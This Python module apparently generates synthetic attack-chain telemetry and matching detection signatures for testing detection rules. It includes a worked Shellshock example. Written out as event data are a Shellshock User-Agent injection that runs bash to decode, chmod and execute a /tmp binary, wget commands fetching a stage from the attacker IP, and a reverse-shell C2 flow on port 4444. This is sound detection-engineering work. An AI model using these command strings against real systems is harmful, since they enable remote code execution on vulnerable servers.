"""Deterministic attack-chain scenario synthesis.

Every scenario emits, in chain order:

1. initial access: an ingress flow from the attacker to the exposed service
   plus, for web vectors, the HTTP request(s) carrying the exploit marker;
2. execution: a shell spawned by the service account, a payload dropped to
   ``/tmp/<five lowercase letters>``, and that payload executing;
3. command and control: an egress flow from the target back to the attacker
   on ``c2_port`` (unless ``plant_c2`` is off),

interleaved with benign filler traffic that carries no attack indicators.
The manifest records, by construction, which events carry which signature.
"""

from __future__ import annotations

import json
import random
import string
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from enum import Enum
from typing import Dict, List, Mapping, Optional, Sequence, Tuple

from .errors import InvalidSpec
from .sessions import CVE_RE, AttackRecord, VulnClass, classify_vuln_class
from .signatures import AllOf, AnyOf, Fidelity, Match, MatchOp, Phase, Signature, SignatureSet
from .telemetry import EventCorpus, RawEvent, Source

DEFAULT_START = datetime(2024, 1, 1, tzinfo=timezone.utc)
SCENARIO_SPAN_MS = 8000
SHELLSHOCK_CVE = "CVE-2014-6271"
SHELLSHOCK_PAYLOAD = "() { :; };"

_U64 = 2 ** 64


class Vector(str, Enum):
    HTTP_GET = "http-get"
    HTTP_POST = "http-post"
    HTTP_MIXED = "http-mixed"
    SERVICE_PAYLOAD = "service-payload"

    @property
    def web(self) -> bool:
        return self is not Vector.SERVICE_PAYLOAD


@dataclass(frozen=True)
class ServiceProfile:
    port: int
    exe: str
    user: str


_HTTP_PROFILE = ServiceProfile(80, "/usr/sbin/apache2", "www-data")
_SERVICE_PROFILES = {
    "samba": ServiceProfile(445, "/usr/sbin/smbd", "nobody"),
    "redis": ServiceProfile(6379, "/usr/bin/redis-server", "redis"),
    "ssh": ServiceProfile(22, "/usr/sbin/sshd", "root"),
    "smtp": ServiceProfile(25, "/usr/sbin/smtpd", "root"),
    "irc": ServiceProfile(6667, "/usr/bin/unrealircd", "ircd"),
    "postgres": ServiceProfile(5432, "/usr/lib/postgresql/bin/postgres", "postgres"),
    "activemq": ServiceProfile(61616, "/usr/bin/java", "activemq"),
}
_GENERIC_PROFILE = ServiceProfile(9000, "/usr/sbin/serviced", "daemon")

_BENIGN_UAS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Safari/605.1.15",
    "curl/7.88.1",
    "kube-probe/1.29",
)
_BENIGN_PATHS = ("/", "/index.html", "/static/app.css", "/favicon.ico", "/health", "/robots.txt")
_BENIGN_PROCS = (
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
    ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
    ("/usr/bin/find", "/usr/bin/find /var/log -mtime +7"),
    ("/usr/bin/python3", "/usr/bin/python3 /opt/monitor/check.py"),
)
_ATTACK_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0"
_CLIENT_NET = "172.18.0."
_DNS_IP = "172.18.0.254"


@dataclass(frozen=True)
class ScenarioSpec:
    cve: str
    vector: Vector
    c2_port: int = 4444
    payload_marker: str = ""  # empty: derived from seed
    seed: int = 0
    event_counts: Optional[Mapping[Source, int]] = None
    benign_noise: int = 0
    plant_c2: bool = True
    service: Optional[str] = None  # default: HTTP for web vectors, Samba otherwise
    start: datetime = DEFAULT_START
    attacker_host: str = "attacker"
    target_host: str = "target"
    attacker_ip: str = "172.18.0.2"
    target_ip: str = "172.18.0.3"

    def validate(self) -> None:
        if not CVE_RE.fullmatch(self.cve):
            raise InvalidSpec(f"bad CVE identifier {self.cve!r}")
        if not isinstance(self.vector, Vector):
            raise InvalidSpec(f"unknown vector {self.vector!r}")
        if not (isinstance(self.c2_port, int) and 1 <= self.c2_port <= 65535):
            raise InvalidSpec(f"c2_port out of range: {self.c2_port!r}")
        if not (isinstance(self.seed, int) and 0 <= self.seed < _U64):
            raise InvalidSpec("seed must be an unsigned 64-bit integer")
        if self.benign_noise < 0:
            raise InvalidSpec("benign_noise must be non-negative")
        if self.attacker_host == self.target_host:
            raise InvalidSpec("attacker and target hosts must differ")
        if self.start.tzinfo is None:
            raise InvalidSpec("start must be timezone-aware")
        svc = self.service_label
        if self.vector.web != (classify_vuln_class(svc) is VulnClass.WEB):
            raise InvalidSpec(f"service {svc!r} does not fit vector {self.vector.value}")
        if self.event_counts:
            for src, n in self.event_counts.items():
                if not isinstance(src, Source) or not isinstance(n, int) or n < 0:
                    raise InvalidSpec(f"bad event count override {src!r}: {n!r}")

    @property
    def service_label(self) -> str:
        if self.service is not None:
            return self.service
        return "HTTP" if self.vector.web else "Samba"

    @property
    def profile(self) -> ServiceProfile:
        if self.vector.web:
            return _HTTP_PROFILE
        return _SERVICE_PROFILES.get(self.service_label.lower(), _GENERIC_PROFILE)


@dataclass(frozen=True)
class ScenarioManifest:
    cve: str
    vector: str
    vuln_class: VulnClass
    source_counts: Mapping[Source, int]
    planted: Mapping[str, Tuple[int, ...]]  # signature id -> corpus indices carrying it
    event_ids: Tuple[int, ...]  # every corpus index emitted for this scenario
    benign_ids: Tuple[int, ...]

    def to_dict(self) -> dict:
        return {
            "cve": self.cve,
            "vector": self.vector,
            "vuln_class": self.vuln_class.value,
            "source_counts": {s.value: self.source_counts.get(s, 0) for s in Source},
            "planted": {k: list(v) for k, v in self.planted.items()},
            "event_ids": list(self.event_ids),
            "benign_ids": list(self.benign_ids),
        }


@dataclass
class _Planned:
    offset_ms: int
    event: RawEvent
    sigs: Tuple[str, ...] = ()
    benign: bool = False


@dataclass
class _Build:
    spec_cve: str
    vector: str
    vuln_class: VulnClass
    record: AttackRecord
    planned: List[_Planned]
    signatures: SignatureSet


def _m(path: str, op: str, value=None) -> Match:
    return Match(path, MatchOp(op), value)


def _sig(sid: str, cve: str, phase: Phase, fid: Fidelity, sources, pred, desc: str) -> Signature:
    return Signature(sid, cve, phase, fid, desc, frozenset(sources), pred)


# --------------------------------------------------------------------------
# generic scenarios
# --------------------------------------------------------------------------

def scenario_signatures(spec: ScenarioSpec) -> SignatureSet:
    """The signature set planted by :func:`synthesize` for ``spec``."""
    marker = _marker(spec)
    prof = spec.profile
    cve = spec.cve
    ids = _sig_ids(cve)
    H, L = Fidelity.HIGH, Fidelity.LOW
    IA, EX, C2 = Phase.INITIAL_ACCESS, Phase.EXECUTION, Phase.COMMAND_AND_CONTROL
    sigs = []
    if spec.vector.web:
        sigs.append(_sig(ids["IA-H1"], cve, IA, H, [Source.HTTP], AnyOf((
            _m("url_path", "contains", marker),
            _m("query_string", "contains", marker),
            _m("request_body", "contains", marker),
        )), "exploit marker in request line, query or body"))
        sigs.append(_sig(ids["IA-L2"], cve, IA, L, [Source.HTTP],
                         _m("url_path", "contains", _endpoint(spec)),
                         "request to the vulnerable endpoint"))
    else:
        sigs.append(_sig(ids["IA-H1"], cve, IA, H, [Source.NETWORK],
                         _m("payload", "contains", marker),
                         "exploit marker in service protocol payload"))
    sigs.append(_sig(ids["IA-L1"], cve, IA, L, [Source.NETWORK], AllOf((
        _m("src_ip", "equals", spec.attacker_ip),
        _m("dst_port", "equals", prof.port),
    )), "inbound connection from attacker to exposed service"))
    sigs += [
        _sig(ids["EX-H1"], cve, EX, H, [Source.PROCESS],
             _m("exe", "regex", r"^/tmp/[a-z]{5}$"), "execution of dropped /tmp payload"),
        _sig(ids["EX-L1"], cve, EX, L, [Source.PROCESS], AllOf((
            _m("user", "equals", prof.user),
            _m("exe", "regex", r"(^|/)(ba|da)?sh$"),
        )), "shell running as the service account"),
        _sig(ids["EX-L2"], cve, EX, L, [Source.PROCESS], AllOf((
            _m("parent_exe", "equals", prof.exe),
            _m("exe", "regex", r"(^|/)(ba|da)?sh$"),
        )), "service process spawning a shell"),
        _sig(ids["EX-L3"], cve, EX, L, [Source.PROCESS],
             _m("cmdline", "regex", r"/tmp/[a-z]{5}\b"), "command line touching a /tmp payload"),
        _sig(ids["C2-H1"], cve, C2, H, [Source.NETWORK], AllOf((
            _m("dst_ip", "equals", spec.attacker_ip),
            _m("dst_port", "equals", spec.c2_port),
        )), "egress connection back to the attacker C2 port"),
        _sig(ids["C2-L1"], cve, C2, L, [Source.NETWORK],
             _m("conn_state", "equals", "S1"), "connection established, never closed"),
        _sig(ids["C2-L2"], cve, C2, L, [Source.NETWORK],
             _m("payload", "contains", "uid="), "interactive shell output on the wire"),
        _sig(ids["C2-L3"], cve, C2, L, [Source.NETWORK],
             _m("bytes_in", "gt", 1_000_000), "large inbound transfer (stage download)"),
    ]
    return SignatureSet(sigs)


def _sig_ids(cve: str) -> Dict[str, str]:
    keys = ("IA-H1", "IA-L1", "IA-L2", "EX-H1", "EX-L1", "EX-L2", "EX-L3", "C2-H1", "C2-L1", "C2-L2", "C2-L3")
    return {k: f"{cve}:{k}" for k in keys}


def _rng(spec: ScenarioSpec) -> random.Random:
    return random.Random(spec.seed)


def _marker(spec: ScenarioSpec) -> str:
    if spec.payload_marker:
        return spec.payload_marker
    r = random.Random(spec.seed ^ 0x5EED)
    return "xpl" + "".join(r.choice("0123456789abcdef") for _ in range(10))


def _endpoint(spec: ScenarioSpec) -> str:
    r = random.Random(spec.seed ^ 0xE9D)
    return "/app/" + "".join(r.choice(string.ascii_lowercase) for _ in range(6)) + ".do"


def _payload_name(rng: random.Random) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(5))


def _ev(spec: ScenarioSpec, offset_ms: int, host: str, source: Source, fields: dict) -> RawEvent:
    return RawEvent(spec.start + timedelta(milliseconds=offset_ms), host, source, fields)


def _flow(src_ip, src_port, dst_ip, dst_port, bytes_in, bytes_out, conn_state="SF", duration_ms=120, proto="tcp", **extra):
    f = {
        "src_ip": src_ip, "dst_ip": dst_ip, "src_port": src_port, "dst_port": dst_port,
        "proto": proto, "bytes_in": bytes_in, "bytes_out": bytes_out,
        "conn_state": conn_state, "duration_ms": duration_ms,
    }
    f.update(extra)
    return f


def _attack_events(spec: ScenarioSpec, rng: random.Random) -> List[_Planned]:
    ids = _sig_ids(spec.cve)
    prof = spec.profile
    marker = _marker(spec)
    endpoint = _endpoint(spec)
    out: List[_Planned] = []
    tgt = spec.target_host

    # initial access
    ingress = dict(_flow(spec.attacker_ip, rng.randint(32768, 60999), spec.target_ip, prof.port,
                         bytes_in=rng.randint(600, 4000), bytes_out=rng.randint(300, 2000)))
    ingress_sigs = [ids["IA-L1"]]
    if not spec.vector.web:
        ingress["payload"] = f"\\x00\\x00\\x00\\x85\\xffSMB{marker}\\x90\\x90"
        ingress_sigs.append(ids["IA-H1"])
    out.append(_Planned(1000, _ev(spec, 1000, tgt, Source.NETWORK, ingress), tuple(ingress_sigs)))

    def http(method: str, offset: int, in_url: bool, in_body: bool) -> _Planned:
        f = {
            "method": method,
            "url_path": f"{endpoint}/{marker}" if in_url else endpoint,
            "status": 200,
            "user_agent": _ATTACK_UA,
            "headers.host": spec.target_ip,
            "headers.accept": "*/*",
            "response_body_len": rng.randint(100, 5000),
        }
        if in_url:
            f["query_string"] = f"cmd={marker}"
        if in_body:
            body = f"data={marker}&exec=1"
            f["request_body"] = body
            f["request_body_len"] = len(body)
            f["headers.content_type"] = "application/x-www-form-urlencoded"
        else:
            f["request_body_len"] = 0
        return _Planned(offset, _ev(spec, offset, tgt, Source.HTTP, f), (ids["IA-H1"], ids["IA-L2"]))

    if spec.vector is Vector.HTTP_GET:
        out.append(http("GET", 1200, True, False))
    elif spec.vector is Vector.HTTP_POST:
        out.append(http("POST", 1200, False, True))
    elif spec.vector is Vector.HTTP_MIXED:
        out.append(http("GET", 1200, True, False))
        out.append(http("POST", 1400, False, True))

    # execution
    svc_pid = rng.randint(300, 900)
    sh_pid = svc_pid + rng.randint(100, 400)
    name = _payload_name(rng)
    sh = "/bin/sh" if rng.random() < 0.5 else "/bin/bash"
    stage_url = f"http://{spec.attacker_ip}:8080/{_payload_name(rng)}"
    out.append(_Planned(3000, _ev(spec, 3000, tgt, Source.PROCESS, {
        "pid": sh_pid, "ppid": svc_pid, "exe": sh,
        "cmdline": f"{sh} -c cd /tmp && wget -q {stage_url}",
        "user": prof.user, "parent_exe": prof.exe, "cwd": "/",
    }), (ids["EX-L1"], ids["EX-L2"])))
    out.append(_Planned(3500, _ev(spec, 3500, tgt, Source.PROCESS, {
        "pid": sh_pid + 1, "ppid": sh_pid, "exe": "/usr/bin/wget",
        "cmdline": f"wget -qO /tmp/{name} {stage_url}",
        "user": prof.user, "parent_exe": sh, "cwd": "/tmp",
    }), (ids["EX-L3"],)))
    out.append(_Planned(4000, _ev(spec, 4000, tgt, Source.PROCESS, {
        "pid": sh_pid + 2, "ppid": sh_pid, "exe": f"/tmp/{name}",
        "cmdline": f"/tmp/{name}",
        "user": prof.user, "parent_exe": sh, "cwd": "/tmp",
    }), (ids["EX-H1"], ids["EX-L3"])))

    # command and control
    if spec.plant_c2:
        out.append(_Planned(6000, _ev(spec, 6000, tgt, Source.NETWORK, _flow(
            spec.target_ip, rng.randint(32768, 60999), spec.attacker_ip, spec.c2_port,
            bytes_in=1_000_001 + rng.randint(0, 200_000), bytes_out=rng.randint(2_000, 9_000),
            conn_state="S1", duration_ms=300_000,
            payload=f"uid={rng.randint(33, 1000)}({prof.user}) gid=0 groups=0",
        )), (ids["C2-H1"], ids["C2-L1"], ids["C2-L2"], ids["C2-L3"])))
    return out


def _benign_event(spec: ScenarioSpec, rng: random.Random, source: Source) -> _Planned:
    offset = rng.randint(0, SCENARIO_SPAN_MS)
    host = spec.target_host
    if source is Source.HTTP:
        fields = {
            "method": "GET",
            "url_path": rng.choice(_BENIGN_PATHS),
            "status": rng.choice((200, 200, 304, 404)),
            "user_agent": rng.choice(_BENIGN_UAS),
            "headers.host": spec.target_ip,
            "request_body_len": 0,
            "response_body_len": rng.randint(0, 20_000),
        }
    elif source is Source.NETWORK:
        if rng.random() < 0.5:
            fields = _flow(_CLIENT_NET + str(rng.randint(10, 40)), rng.randint(32768, 60999),
                           spec.target_ip, rng.choice((80, 443)),
                           bytes_in=rng.randint(200, 90_000), bytes_out=rng.randint(200, 90_000))
        else:
            fields = _flow(spec.target_ip, rng.randint(32768, 60999), _DNS_IP, 53,
                           bytes_in=rng.randint(60, 300), bytes_out=rng.randint(40, 120),
                           proto="udp", duration_ms=rng.randint(1, 50))
    else:
        exe, cmd = rng.choice(_BENIGN_PROCS)
        fields = {
            "pid": rng.randint(1000, 30000), "ppid": 1, "exe": exe, "cmdline": cmd,
            "user": "root", "parent_exe": "/sbin/init", "cwd": "/",
        }
    return _Planned(offset, _ev(spec, offset, host, source, fields), (), True)


def _build(spec: ScenarioSpec) -> _Build:
    spec.validate()
    rng = _rng(spec)
    planned = _attack_events(spec, rng)

    attack_counts = {s: 0 for s in Source}
    for p in planned:
        attack_counts[p.event.source] += 1
    overrides = dict(spec.event_counts or {})
    fillers: List[Source] = []
    for src, total in overrides.items():
        if total < attack_counts[src]:
            raise InvalidSpec(
                f"event_counts[{src.value}]={total} is below the {attack_counts[src]} attack events"
            )
        fillers += [src] * (total - attack_counts[src])
    free = [s for s in Source if s not in overrides]
    if spec.benign_noise and not free:
        raise InvalidSpec("benign_noise given but every source count is overridden")
    fillers += [rng.choice(free) for _ in range(spec.benign_noise)] if free else []
    planned += [_benign_event(spec, rng, src) for src in fillers]

    record = AttackRecord(
        spec.cve, spec.start, spec.start + timedelta(milliseconds=SCENARIO_SPAN_MS),
        spec.attacker_host, spec.target_host, spec.service_label,
    )
    return _Build(spec.cve, spec.vector.value, classify_vuln_class(spec.service_label),
                  record, planned, scenario_signatures(spec))


def _assemble(builds: Sequence[_Build], origin: str):
    tagged = []
    for bi, b in enumerate(builds):
        for pi, p in enumerate(b.planned):
            tagged.append((p.event.ts, bi, pi, p))
    # attack events keep generation order at equal timestamps; scenario order breaks ties
    tagged.sort(key=lambda t: (t[0], t[1], t[3].benign, t[2]))
    events = tuple(t[3].event for t in tagged)
    corpus = EventCorpus(events, origin)

    manifests = []
    for bi, b in enumerate(builds):
        planted: Dict[str, List[int]] = {}
        ids, benign = [], []
        counts = {s: 0 for s in Source}
        for idx, t in enumerate(tagged):
            if t[1] != bi:
                continue
            p = t[3]
            ids.append(idx)
            counts[p.event.source] += 1
            if p.benign:
                benign.append(idx)
            for sid in p.sigs:
                planted.setdefault(sid, []).append(idx)
        manifests.append(ScenarioManifest(
            b.spec_cve, b.vector, b.vuln_class, counts,
            {k: tuple(v) for k, v in sorted(planted.items())}, tuple(ids), tuple(benign),
        ))
    return corpus, manifests


def synthesize(spec: ScenarioSpec) -> Tuple[EventCorpus, AttackRecord, ScenarioManifest]:
    """Emit one scenario. Equal specs give byte-identical corpora."""
    b = _build(spec)
    corpus, manifests = _assemble([b], f"synth:{spec.vector.value}:seed={spec.seed}")
    return corpus, b.record, manifests[0]


def synthesize_benign(spec: ScenarioSpec, count: int = 20) -> Tuple[EventCorpus, AttackRecord]:
    """Benign-only traffic over the same window and hosts as ``spec``."""
    spec.validate()
    rng = random.Random(spec.seed ^ 0xBE9)
    planned = [_benign_event(spec, rng, rng.choice(tuple(Source))) for _ in range(count)]
    b = _Build(spec.cve, "benign", classify_vuln_class(spec.service_label), AttackRecord(
        spec.cve, spec.start, spec.start + timedelta(milliseconds=SCENARIO_SPAN_MS),
        spec.attacker_host, spec.target_host, spec.service_label,
    ), planned, SignatureSet())
    corpus, _ = _assemble([b], f"synth:benign:seed={spec.seed}")
    return corpus, b.record


@dataclass(frozen=True)
class Suite:
    corpus: EventCorpus
    records: Tuple[AttackRecord, ...]
    signatures: SignatureSet
    manifests: Tuple[ScenarioManifest, ...]


def synthesize_suite(specs: Sequence[ScenarioSpec], origin: str = "synth:suite") -> Suite:
    """Merge several scenarios into one corpus; each keeps its own window."""
    cves = [s.cve for s in specs]
    if len(set(cves)) != len(cves):
        raise InvalidSpec("suite scenarios need distinct CVEs")
    builds = [_build(s) for s in specs]
    corpus, manifests = _assemble(builds, origin)
    sigs: List[Signature] = []
    for b in builds:
        sigs += list(b.signatures.values())
    return Suite(corpus, tuple(b.record for b in builds), SignatureSet(sigs), tuple(manifests))


def suite_specs(
    counts: Mapping[Vector, int],
    seed: int = 0,
    benign_noise: int = 4,
    spacing: timedelta = timedelta(seconds=60),
    first_cve: int = 1000,
) -> List[ScenarioSpec]:
    """Specs for a mixed corpus with synthetic CVE ids and disjoint windows."""
    specs = []
    i = 0
    for vector in Vector:
        for _ in range(counts.get(vector, 0)):
            specs.append(ScenarioSpec(
                cve=f"CVE-2099-{first_cve + i}",
                vector=vector,
                seed=(seed * 1_000_003 + i) % _U64,
                benign_noise=benign_noise,
                start=DEFAULT_START + spacing * i,
            ))
            i += 1
    return specs


# --------------------------------------------------------------------------
# Shellshock worked example
# --------------------------------------------------------------------------

SHELLSHOCK_SEED = 6271


def shellshock_signatures(attacker_ip: str = "172.18.0.2", c2_port: int = 4444) -> SignatureSet:
    """Twelve phase-mapped signatures (3 initial access, 4 execution, 5 C2).

    A reconstruction: four are high/low pairs of the manual indicators, the
    rest are the low-fidelity behaviours (long user agent, shell as the web
    user, parent/child lineage, long-lived or asymmetric flows, ...).
    """
    cve = SHELLSHOCK_CVE
    H, L = Fidelity.HIGH, Fidelity.LOW
    IA, EX, C2 = Phase.INITIAL_ACCESS, Phase.EXECUTION, Phase.COMMAND_AND_CONTROL
    return SignatureSet([
        _sig("SS-IA-01", cve, IA, H, [Source.HTTP], _m("user_agent", "contains", SHELLSHOCK_PAYLOAD),
             "bash function-definition payload in User-Agent"),
        _sig("SS-IA-02", cve, IA, L, [Source.HTTP], _m("user_agent", "regex", r"^.{100,}$"),
             "unusually long User-Agent"),
        _sig("SS-IA-03", cve, IA, L, [Source.HTTP], AllOf((
            _m("method", "equals", "GET"), _m("url_path", "regex", r"\.cgi$"),
        )), "GET against a CGI endpoint"),
        _sig("SS-EX-01", cve, EX, H, [Source.PROCESS], _m("exe", "regex", r"^/tmp/[a-z]{5}$"),
             "execution of five-character binary from /tmp"),
        _sig("SS-EX-02", cve, EX, L, [Source.PROCESS], AllOf((
            _m("user", "equals", "www-data"), _m("exe", "regex", r"(^|/)bash$"),
        )), "bash running as www-data"),
        _sig("SS-EX-03", cve, EX, L, [Source.PROCESS], _m("cmdline", "regex", r"chmod \+x /tmp/[a-z]{5}"),
             "payload made executable in /tmp"),
        _sig("SS-EX-04", cve, EX, L, [Source.PROCESS], AllOf((
            _m("parent_exe", "regex", r"(apache2|httpd)$"), _m("exe", "regex", r"(^|/)(ba)?sh$"),
        )), "web server parent spawning a shell"),
        _sig("SS-C2-01", cve, C2, H, [Source.NETWORK], AllOf((
            _m("dst_ip", "equals", attacker_ip), _m("dst_port", "equals", c2_port),
        )), "egress to attacker on the C2 port"),
        _sig("SS-C2-02", cve, C2, L, [Source.NETWORK], _m("bytes_in", "gt", 1_000_000),
             "large data transfer"),
        _sig("SS-C2-03", cve, C2, L, [Source.NETWORK], _m("conn_state", "equals", "S1"),
             "connection established and not terminated"),
        _sig("SS-C2-04", cve, C2, L, [Source.NETWORK], _m("payload", "regex", r"uid=\d+\(www-data\)"),
             "shell output on the C2 channel"),
        _sig("SS-C2-05", cve, C2, L, [Source.NETWORK], _m("duration_ms", "gt", 60_000),
             "long-lived connection"),
    ])


def shellshock_fixture() -> Tuple[EventCorpus, AttackRecord, SignatureSet, ScenarioManifest]:
    """Nine-event Shellshock run against /victim.cgi ending in C2 on port 4444."""
    spec = ScenarioSpec(SHELLSHOCK_CVE, Vector.HTTP_GET, seed=SHELLSHOCK_SEED)
    rng = random.Random(SHELLSHOCK_SEED)
    name = _payload_name(rng)
    atk_ip, tgt_ip = spec.attacker_ip, spec.target_ip
    tgt = spec.target_host
    stage = "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAAB"
    inner = f"echo {stage}|base64 -d > /tmp/{name}; chmod +x /tmp/{name}; /tmp/{name}"
    ua = f"{SHELLSHOCK_PAYLOAD} echo Content-Type: text/plain; echo; /bin/bash -c '{inner}'"
    apache_pid = 400
    bash_pid = 812

    P = _Planned
    planned = [
        P(500, _ev(spec, 500, tgt, Source.HTTP, {
            "method": "GET", "url_path": "/index.html", "status": 200,
            "user_agent": _BENIGN_UAS[0], "headers.host": tgt_ip,
            "request_body_len": 0, "response_body_len": 3120,
        }), (), True),
        P(1000, _ev(spec, 1000, tgt, Source.NETWORK, _flow(
            atk_ip, 41234, tgt_ip, 80, bytes_in=724, bytes_out=389,
        )), ()),
        P(1050, _ev(spec, 1050, tgt, Source.HTTP, {
            "method": "GET", "url_path": "/victim.cgi", "status": 200,
            "user_agent": ua, "headers.host": tgt_ip, "headers.accept": "*/*",
            "request_body_len": 0, "response_body_len": 0,
        }), ("SS-IA-01", "SS-IA-02", "SS-IA-03")),
        P(1100, _ev(spec, 1100, tgt, Source.PROCESS, {
            "pid": bash_pid, "ppid": apache_pid, "exe": "/bin/bash",
            "cmdline": f"/bin/bash -c {inner}", "user": "www-data",
            "parent_exe": "/usr/sbin/apache2", "cwd": "/usr/lib/cgi-bin",
        }), ("SS-EX-02", "SS-EX-03", "SS-EX-04")),
        P(1150, _ev(spec, 1150, tgt, Source.PROCESS, {
            "pid": bash_pid + 2, "ppid": bash_pid, "exe": "/bin/chmod",
            "cmdline": f"chmod +x /tmp/{name}", "user": "www-data",
            "parent_exe": "/bin/bash", "cwd": "/usr/lib/cgi-bin",
        }), ("SS-EX-03",)),
        P(1200, _ev(spec, 1200, tgt, Source.PROCESS, {
            "pid": bash_pid + 3, "ppid": bash_pid, "exe": f"/tmp/{name}",
            "cmdline": f"/tmp/{name}", "user": "www-data",
            "parent_exe": "/bin/bash", "cwd": "/usr/lib/cgi-bin",
        }), ("SS-EX-01",)),
        P(1500, _ev(spec, 1500, tgt, Source.NETWORK, _flow(
            tgt_ip, 52814, atk_ip, spec.c2_port, bytes_in=1_105_920, bytes_out=6_144,
            conn_state="S1", duration_ms=312_000,
            payload="uid=33(www-data) gid=33(www-data) groups=33(www-data)",
        )), ("SS-C2-01", "SS-C2-02", "SS-C2-03", "SS-C2-04", "SS-C2-05")),
        P(2000, _ev(spec, 2000, tgt, Source.PROCESS, {
            "pid": 2210, "ppid": 1, "exe": "/usr/sbin/cron", "cmdline": "/usr/sbin/cron -f",
            "user": "root", "parent_exe": "/sbin/init", "cwd": "/",
        }), (), True),
        P(2500, _ev(spec, 2500, tgt, Source.NETWORK, _flow(
            tgt_ip, 40001, _DNS_IP, 53, bytes_in=120, bytes_out=64, proto="udp", duration_ms=3,
        )), (), True),
    ]
    record = AttackRecord(SHELLSHOCK_CVE, spec.start, spec.start + timedelta(milliseconds=3000),
                          spec.attacker_host, tgt, "HTTP")
    sigs = shellshock_signatures(atk_ip, spec.c2_port)
    b = _Build(SHELLSHOCK_CVE, Vector.HTTP_GET.value, VulnClass.WEB, record, planned, sigs)
    corpus, manifests = _assemble([b], "synth:shellshock")
    return corpus, record, sigs, manifests[0]


def manifest_json(manifests: Sequence[ScenarioManifest]) -> str:
    return json.dumps([m.to_dict() for m in manifests], indent=2) + "\n"
